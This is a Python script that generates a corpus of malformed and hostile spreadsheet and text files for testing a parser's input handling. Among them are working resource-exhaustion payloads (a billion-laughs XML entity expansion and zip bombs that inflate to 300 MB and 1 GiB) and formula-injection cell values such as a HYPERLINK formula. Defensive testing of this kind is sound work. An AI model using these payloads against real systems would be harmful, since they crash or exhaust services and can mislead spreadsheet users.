"""Write the binary cases of the bad-input corpus (see README.md in this folder).

The text cases (.csv, .yaml, .json) are committed beside this script. The binary ones (.xlsx,
UTF-16 and cp1258 text, files that lie about their format, a criteria file over the size limit)
are written by :func:`build`, byte for byte the same on every run, so the tests generate their
own copy in a temporary folder and nothing binary needs to be committed::

    python tests/data/bad/make_corpus.py [OUT_DIR]        # default: tests/data/bad/generated

The zip bombs are written by :func:`build_bombs` (files of 0.3 and 1 MB that inflate to 300 MB
and 1 GiB); their deflate stream repeats one compressed 16 MiB block, so building them takes
about a second and never holds the inflated bytes.
"""

from __future__ import annotations

import datetime as dt
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

# The same three units as registry.csv / stats.csv in this folder.
UNITS = [("00101", "Xã Mường Bú"), ("00102", "Phường Tô Hiệu"), ("XÃ03", "Xã Ẳng Nưa")]
STATS = [
    ("00101", 8.5, 1, 90, 100),
    ("00102", 6, 0.85, 45, 50),
    ("XÃ03", 7.25, 0.7, 10732, 10800),
]
STATS_COLUMNS = ["ma", "gia_tri", "hoan_thanh", "dung_han", "da_xu_ly"]
CREATED = dt.datetime(2025, 1, 1)


# -- workbooks written by xlsxwriter (as Excel would save them) ------------------------------


def _book(path: Path, fill: Callable[..., None]) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path))
    book.set_properties({"created": CREATED})  # fixed, so the bytes are the same on every run
    try:
        fill(book)
    finally:
        book.close()


def merged_header(book: object) -> None:
    """A title, then 'Số hồ sơ' merged over two sub-columns (header_rows: 2)."""
    sheet = book.add_worksheet("stats")  # type: ignore[attr-defined]
    sheet.write_string(0, 0, "SỐ LIỆU GIẢI QUYẾT HỒ SƠ NĂM 2025")
    for j, name in enumerate(["ma", "gia_tri", "hoan_thanh"]):
        sheet.write_string(2, j, name)
    sheet.merge_range(2, 3, 2, 4, "Số hồ sơ")
    sheet.write_string(3, 3, "dung_han")
    sheet.write_string(3, 4, "da_xu_ly")
    for i, (unit, *values) in enumerate(STATS, start=4):
        sheet.write_string(i, 0, unit)
        for j, value in enumerate(values, start=1):
            sheet.write_number(i, j, value)


def numbers_as_text(book: object) -> None:
    """Every figure stored as text: spaces, '85%', '10,732' (thousands under decimal '.')."""
    sheet = book.add_worksheet("stats")  # type: ignore[attr-defined]
    rows = [
        STATS_COLUMNS,
        ["00101", "8.5", "100%", " 90 ", "100"],
        ["00102", " 6", "85%", "45", "50"],
        ["XÃ03", "7.25 ", "70 %", "10,732", "10,800"],
    ]
    for i, row in enumerate(rows):
        for j, value in enumerate(row):
            sheet.write_string(i, j, value)


def no_such_sheet(book: object) -> None:
    """The criteria file asks for sheet 'Số liệu'; the workbook has 'So lieu' and 'Ghi chú'."""
    for name in ("So lieu", "Ghi chú"):
        sheet = book.add_worksheet(name)  # type: ignore[attr-defined]
        sheet.write_row(0, 0, STATS_COLUMNS)
        for i, (unit, *values) in enumerate(STATS, start=1):
            sheet.write_string(i, 0, unit)
            sheet.write_row(i, 1, values)


def formula_names(book: object) -> None:
    """A registry whose names look like formulas, as strings (what a user could type)."""
    sheet = book.add_worksheet("registry")  # type: ignore[attr-defined]
    sheet.write_row(0, 0, ["ma", "tên"])
    for i, (unit, name) in enumerate(FORMULA_UNITS, start=1):
        sheet.write_string(i, 0, unit)
        sheet.write_string(i, 1, name)


FORMULA_UNITS = [
    ("00101", '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'),
    ("00102", "+84 912 345 678"),
    ("XÃ03", "@SUM(A1:A9)"),
]


# -- workbooks assembled part by part (what no spreadsheet program writes) -------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}</Types>"
)
SHEET_TYPE = (
    '<Override PartName="/xl/worksheets/sheet{i}.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)


def _workbook(names: list[str]) -> str:
    sheets = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"/>' for i, name in enumerate(names, 1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<sheets>{sheets}</sheets></workbook>"
    )


def _workbook_rels(count: int) -> str:
    rels = "".join(
        f'<Relationship Id="rId{i}" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        f'Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, count + 1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rels}</Relationships>"
    )
SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _cell(ref: str, text: str, quote: str = '"', sep: str = " ") -> str:
    q = quote
    return f"<c{sep}r={q}{ref}{q}{sep}t={q}inlineStr{q}><is><t>{text}</t></is></c>"


def _stats_rows() -> str:
    """The stats table as inline-string rows 1–4 (a valid sheet to hide things in)."""
    rows = [STATS_COLUMNS] + [[str(v) for v in row] for row in STATS]
    out = []
    for i, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{chr(65 + j)}{i}", v) for j, v in enumerate(row))
        out.append(f'<row r="{i}">{cells}</row>')
    return "".join(out)


def _parts(sheet_xml: str, names: tuple[str, ...]) -> list[tuple[str, bytes]]:
    types = "".join(SHEET_TYPE.format(i=i) for i in range(1, len(names) + 1))
    parts = [
        ("[Content_Types].xml", CONTENT_TYPES.replace("{sheets}", types).encode()),
        ("_rels/.rels", ROOT_RELS.encode()),
        ("xl/workbook.xml", _workbook(list(names)).encode()),
        ("xl/_rels/workbook.xml.rels", _workbook_rels(len(names)).encode()),
    ]
    return parts + [
        (f"xl/worksheets/sheet{i}.xml", sheet_xml.encode()) for i in range(1, len(names) + 1)
    ]


def _raw_xlsx(path: Path, sheet_xml: str, *, names: tuple[str, ...] = ("stats",)) -> None:
    """A minimal workbook whose sheets (named ``names``) all hold the XML ``sheet_xml``."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in _parts(sheet_xml, names):
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compresslevel=6)


def plain_sheet() -> str:
    return f"{SHEET_OPEN}<sheetData>{_stats_rows()}</sheetData></worksheet>"


def billion_laughs() -> str:
    """Entities nesting ten deep (10^9 'lol's) declared in the sheet and used in a cell."""
    entities = ['<!ENTITY lol "lol">']
    for k in range(1, 10):
        previous = "lol" if k == 1 else f"lol{k - 1}"
        entities.append(f'<!ENTITY lol{k} "{("&" + previous + ";") * 10}">')
    doctype = "<!DOCTYPE worksheet [" + "".join(entities) + "]>"
    body = _stats_rows() + '<row r="5">' + _cell("A5", "&lol9;") + "</row>"
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + doctype
        + SHEET_OPEN.split("\n", 1)[1]
        + f"<sheetData>{body}</sheetData></worksheet>"
    )


def far_cell(*, dimension: bool, quote: str = '"', sep: str = " ") -> str:
    """The stats table, plus one cell at XFD1048576 (the last cell of a sheet)."""
    q = quote
    dim = f"<dimension{sep}ref={q}A1:XFD1048576{q}/>" if dimension else ""
    far = f"<row{sep}r={q}1048576{q}>{_cell('XFD1048576', 'x', quote, sep)}</row>"
    return f"{SHEET_OPEN}{dim}<sheetData>{_stats_rows()}{far}</sheetData></worksheet>"


def far_cell_implicit() -> str:
    """The last cell reached without any cell reference: rows and cells without ``r`` take
    the next position, so 1,048,571 empty rows and 16,383 empty cells lead to XFD1048576."""
    rows = "<row/>" * (1048576 - 5)
    last = "<row>" + "<c/>" * 16383 + '<c t="inlineStr"><is><t>x</t></is></c></row>'
    return f"{SHEET_OPEN}<sheetData>{_stats_rows()}{rows}{last}</sheetData></worksheet>"


# -- text in encodings no editor shows as text ------------------------------------------------

REGISTRY_TEXT = "ma,tên\n" + "".join(f"{unit},{name}\n" for unit, name in UNITS)

_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def to_cp1258(text: str) -> bytes:
    """Vietnamese text as Windows-1258 writes it: precomposed â ă ê ô ơ ư đ, the five tone
    marks as combining characters after them (so 'ẳ' is 'ă' + U+0309)."""
    out = bytearray()
    for char in text:
        try:
            out += char.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in _TONES))
        tones = "".join(p for p in parts if p in _TONES)
        out += (base + tones).encode("cp1258")
    return bytes(out)


def utf16_registry() -> bytes:
    """Excel's 'Unicode Text' export: UTF-16 LE with a byte-order mark, tab-separated, CRLF."""
    text = REGISTRY_TEXT.replace(",", "\t").replace("\n", "\r\n")
    return b"\xff\xfe" + text.encode("utf-16-le")


# -- the corpus --------------------------------------------------------------------------------

BOOKS: dict[str, Callable[..., None]] = {
    "stats_merged_header.xlsx": merged_header,
    "stats_numbers_as_text.xlsx": numbers_as_text,
    "stats_no_such_sheet.xlsx": no_such_sheet,
    "registry_formulas.xlsx": formula_names,
}
RAW_BOOKS: dict[str, tuple[Callable[[], str], tuple[str, ...]]] = {
    "stats_plain_raw.xlsx": (plain_sheet, ("stats",)),
    "hostile_billion_laughs.xlsx": (billion_laughs, ("stats",)),
    "hostile_far_cell.xlsx": (lambda: far_cell(dimension=True), ("stats",)),
    "hostile_far_cell_no_dimension.xlsx": (lambda: far_cell(dimension=False), ("stats",)),
    "hostile_far_cell_single_quotes.xlsx": (
        lambda: far_cell(dimension=False, quote="'"),
        ("stats",),
    ),
    "hostile_far_cell_newline.xlsx": (lambda: far_cell(dimension=False, sep="\n"), ("stats",)),
    "hostile_far_cell_implicit.xlsx": (far_cell_implicit, ("stats",)),
    # what `par-index compare` / `weak` read: sheets named like a results workbook
    "hostile_results_far_cell.xlsx": (lambda: far_cell(dimension=True), ("ranking", "detail")),
}
BYTES: dict[str, Callable[[], bytes]] = {
    "registry_utf16.csv": utf16_registry,
    "registry_cp1258.csv": lambda: to_cp1258(REGISTRY_TEXT),
    # an old binary .xls (OLE compound document) renamed .xlsx
    "stats_old_xls.xlsx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    # a zip archive named .csv
    "stats_zip.csv": lambda: _zip_bytes(),
    # starts like a zip, then nothing a zip reader can use
    "stats_broken_zip.xlsx": lambda: b"PK\x03\x04" + b"\x00" * 60,
    # a zip whose sheet part cannot be inflated
    "stats_corrupt_deflate.xlsx": lambda: corrupt_deflate(),
    # a UTF-16 byte-order mark, then an odd number of bytes: not UTF-16 after all
    "registry_utf16_truncated.csv": lambda: utf16_registry()[:-1],
    # a criteria file saved in a legacy code page instead of UTF-8
    "spec_cp1258.yaml": lambda: to_cp1258("id: cp\nname: Chỉ số cải cách hành chính\n"),
    # a criteria file over the 5,000,000-byte limit (a comment line repeated)
    "spec_too_big.yaml": lambda: b"# " + b"x" * 5_000_000 + b"\nid: big\n",
}


def corrupt_deflate() -> bytes:
    """A workbook whose sheet part holds a broken deflate stream (sizes and CRC untouched): the
    zip directory reads, the sheet does not."""
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in _parts(plain_sheet(), ("stats",)):
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compresslevel=6)
    raw = bytearray(buffer.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw[start] = 0xFF  # block type 3: reserved, invalid in any deflate stream
    return bytes(raw)


def _zip_bytes() -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("stats.csv", (1980, 1, 1, 0, 0, 0)), "ma\n00101\n")
    return buffer.getvalue()


def build(out: Path) -> dict[str, Path]:
    """Write every binary case (not the bombs) into ``out``; return name → path."""
    out.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, fill in BOOKS.items():
        _book(out / name, fill)
        written[name] = out / name
    for name, (make, sheets) in RAW_BOOKS.items():
        _raw_xlsx(out / name, make(), names=sheets)
        written[name] = out / name
    for name, make_bytes in BYTES.items():
        (out / name).write_bytes(make_bytes())
        written[name] = out / name
    return written


# -- zip bombs ---------------------------------------------------------------------------------

GIB = 1 << 30


def _bomb(path: Path, filler: bytes, size: int) -> None:
    """A workbook whose sheet part is a valid sheet followed by ``size`` bytes of ``filler``
    (XML whitespace), compressed: honest sizes in the zip headers, as a real bomb has."""
    head = f"{SHEET_OPEN}<sheetData>{_stats_rows()}</sheetData>".encode()
    tail = b"</worksheet>"
    # Each piece is deflated from a fresh state and ends in a full flush (byte-aligned, no
    # final block), so pieces concatenate into one valid stream, and the 16 MiB block of
    # filler is compressed once however many times it is repeated.
    block = filler * (1 << 24)

    def piece(data: bytes, mode: int) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(mode)

    packed_block = piece(block, zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    data = [piece(head, zlib.Z_FULL_FLUSH)]
    left = size
    while left >= len(block):
        data.append(packed_block)
        crc = zlib.crc32(block, crc)
        left -= len(block)
    if left:
        data.append(piece(block[:left], zlib.Z_FULL_FLUSH))
        crc = zlib.crc32(block[:left], crc)
    data.append(piece(tail, zlib.Z_FINISH))
    crc = zlib.crc32(tail, crc)
    body = b"".join(data)
    _raw_xlsx(path, plain_sheet())  # the other parts, then the sheet swapped for the bomb
    _replace_part(path, "xl/worksheets/sheet1.xml", body, crc, len(head) + size + len(tail))


def _replace_part(path: Path, name: str, deflated: bytes, crc: int, size: int) -> None:
    """Rewrite ``path`` with part ``name`` holding already-deflated data (zipfile cannot be
    given pre-compressed data, so the local header and directory entry are written by hand)."""
    import struct

    with zipfile.ZipFile(path) as archive:
        others = [(i, archive.read(i)) for i in archive.infolist() if i.filename != name]
    entries: list[tuple[bytes, int, int, int, int, int]] = []
    blob = bytearray()

    def local(filename: bytes, method: int, crc32: int, csize: int, usize: int) -> bytes:
        return struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc32, csize, usize,
            len(filename), 0,
        ) + filename

    for info, data in others:
        packed = zlib.compress(data, 9)[2:-4]
        offset = len(blob)
        blob += local(info.filename.encode(), 8, zlib.crc32(data), len(packed), len(data))
        blob += packed
        entries.append((info.filename.encode(), 8, zlib.crc32(data), len(packed), len(data),
                        offset))
    offset = len(blob)
    blob += local(name.encode(), 8, crc, len(deflated), size)
    blob += deflated
    entries.append((name.encode(), 8, crc, len(deflated), size, offset))
    directory = bytearray()
    for filename, method, crc32, csize, usize, off in entries:
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc32, csize,
            usize, len(filename), 0, 0, 0, 0, 0, off,
        ) + filename
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory),
        len(blob), 0,
    )
    path.write_bytes(bytes(blob + directory + end))


BOMBS = {
    # one sheet part of 1 GiB of spaces: over the 1,000,000,000-byte limit on the whole workbook
    "hostile_bomb_1gib.xlsx": GIB,
    # 300 MB of spaces: under that limit, but ~1000-fold compression (the per-part ratio check)
    "hostile_bomb_300mb.xlsx": 300_000_000,
}


def build_bombs(out: Path, names: tuple[str, ...] = tuple(BOMBS)) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = {}
    for name in names:
        _bomb(out / name, b" ", BOMBS[name])
        written[name] = out / name
    return written


def main(argv: list[str]) -> None:
    out = Path(argv[1]) if len(argv) > 1 else HERE / "generated"
    for name, path in {**build(out), **build_bombs(out)}.items():
        print(f"{path.stat().st_size:>10,}  {name}")


if __name__ == "__main__":
    main(sys.argv)
